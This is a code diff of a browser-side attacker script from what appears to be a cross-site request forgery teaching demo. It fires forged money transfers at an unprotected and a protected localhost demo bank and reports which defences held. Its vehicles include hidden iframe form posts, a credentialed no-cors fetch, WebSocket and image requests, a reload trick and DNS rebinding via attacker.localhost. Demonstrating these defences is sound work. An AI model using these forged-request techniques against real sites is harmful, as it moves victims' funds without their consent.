@@ -1,71 +1,60 @@
-// Runs in the browser, on the attacker's page: fires attacks at both banks, and shows what happened.
+// Runs in the browser, on the attacker's page: attacks both banks, and shows what happened.
 
 const { origins } = JSON.parse(document.querySelector('#play').textContent)
 const banks = ['unprotected', 'protected']
 
 // What a page can send to a bank. Each attempt has a name, under which the bank records the outcome.
 const vehicles = {
-  form (bank, attempt) {
-    hiddenFrame(attempt).src = `${origins.crossSite}/attack/${bank}/${attempt}`
-  },
-  neighbour (bank, attempt) {
-    const form = Object.assign(document.createElement('form'), {
-      method: 'post', action: `${origins[bank]}/transfer?attempt=${attempt}`, target: hiddenFrame(attempt).name, hidden: true
-    })
-    form.append(Object.assign(document.createElement('input'), { name: 'amount', value: '100' }))
-    document.body.append(form)
-    form.submit()
-  },
+  form: (bank, attempt) => openFrame(`${origins.crossSite}/attack/${bank}/transfer/${attempt}`),
+  neighbour: (bank, attempt) => openFrame(`${origins.sameSite}/attack/${bank}/strict/${attempt}`),
   fetch (bank, attempt) {
     const body = new URLSearchParams({ amount: '100' })
-    fetch(`${origins[bank]}/transfer?attempt=${attempt}`, { method: 'POST', mode: 'no-cors', credentials: 'include', body }).catch(() => {})
-  },
-  beacon (bank, attempt) {
-    navigator.sendBeacon(`${origins[bank]}/transfer?attempt=${attempt}`, new URLSearchParams({ amount: '100' }))
+    fetch(`${origins[bank]}/strict?attempt=${attempt}`, { method: 'POST', mode: 'no-cors', credentials: 'include', body }).catch(() => {})
   },
   webSocket (bank, attempt) {
     const socket = new WebSocket(`${origins[bank].replace('http', 'ws')}/orders?attempt=${attempt}`)
     socket.onopen = () => socket.send('100')
   },
-  image (bank, attempt) {
-    document.createElement('img').src = `${origins[bank]}/pay?amount=100&attempt=${attempt}`
-  }
+  image: (bank, attempt) => { new Image().src = `${origins[bank]}/pay?amount=100&attempt=${attempt}` },
+  reload: (bank, attempt) => openFrame(`${origins.crossSite}/attack/${bank}/reloading/${attempt}`),
+  rebinding: (bank, attempt) => openFrame(`${origins[bank].replace('localhost', 'attacker.localhost')}/rebound/${attempt}`)
 }
 
-function hiddenFrame (name) {
-  return document.body.appendChild(Object.assign(document.createElement('iframe'), { name, hidden: true }))
+function openFrame (src) {
+  document.body.append(Object.assign(document.createElement('iframe'), { src, hidden: true }))
 }
 
-async function fire (vehicle) {
-  const row = document.querySelector(`[data-attack=${vehicle}]`)
+async function attack (vehicle) {
   for (const bank of banks) {
-    const cell = row.querySelector(`[data-at=${bank}]`)
-    show(cell, 'waiting', 'sending …')
+    const place = document.querySelector(`#${vehicle} [data-at=${bank}]`)
+    show(place, 'waiting', 'Sending …')
     const attempt = `${vehicle}-${crypto.randomUUID()}`
     vehicles[vehicle](bank, attempt)
-    describe(cell, await outcomeOf(bank, attempt))
+    describe(place, await outcomeOf(bank, attempt, vehicle === 'reload' ? 2 : 1))
   }
 }
 
-/** The outcome that the bank recorded, or undefined if no such attempt reached it within five seconds. */
-async function outcomeOf (bank, attempt) {
-  for (let i = 0; i < 50; i++) {
-    const response = await fetch(`/outcomes/${bank}/${attempt}`)
-    if (response.ok) return response.json()
+/** What the bank recorded after so many requests, or in five seconds; undefined if no such attempt reached it. */
+async function outcomeOf (bank, attempt, requests) {
+  let outcome
+  for (let i = 0; i < 50 && !(outcome?.requests >= requests); i++) {
     await new Promise(resolve => setTimeout(resolve, 100))
+    const response = await fetch(`/outcomes/${bank}/${attempt}`)
+    if (response.ok) outcome = await response.json()
   }
+  return outcome
 }
 
-function describe (cell, outcome) {
-  if (outcome === undefined) return show(cell, 'kept', 'The browser sent nothing')
-  if (outcome.moved > 0) return show(cell, 'moved', `${outcome.moved} € gone`)
-  show(cell, 'kept', 'Refused', outcome.message, outcome.reason)
+function describe (place, outcome) {
+  if (outcome === undefined) return show(place, 'kept', 'The browser sent nothing')
+  const { moved, status, message, reason } = outcome
+  if (moved > 0) show(place, 'moved', `${moved} € gone`, element('p', message))
+  else show(place, 'kept', 'Refused', element('p', message), element('code', `${status} ${reason}`))
 }
 
-function show (cell, state, title, sentence, reason) {
-  cell.className = state
-  cell.replaceChildren(element('strong', title))
-  if (sentence) cell.append(element('p', sentence), element('code', reason))
+function show (place, state, title, ...rest) {
+  place.dataset.state = state
+  place.replaceChildren(element('strong', title), ...rest)
 }
 
 function element (name, text) {
@@ -91,13 +80,13 @@ async function busy (act) {
   body.ariaBusy = 'false'
 }
 
-for (const vehicle of Object.keys(vehicles)) {
-  document.querySelector(`[data-attack=${vehicle}] button`).onclick = () => busy(() => fire(vehicle))
+for (const button of document.querySelectorAll('[data-attack]')) {
+  button.onclick = () => busy(() => attack(button.dataset.attack))
 }
 document.querySelector('#all').onclick = () => busy(async () => {
-  for (const vehicle of Object.keys(vehicles)) await fire(vehicle)
+  for (const button of document.querySelectorAll('details [data-attack]')) await attack(button.dataset.attack)
 })
 document.querySelector('#again').onclick = () => busy(async () => {
   await fetch('/again', { method: 'POST' })
-  for (const cell of document.querySelectorAll('td')) show(cell, '', '–')
+  for (const place of document.querySelectorAll('[data-at]')) place.replaceChildren()
 })
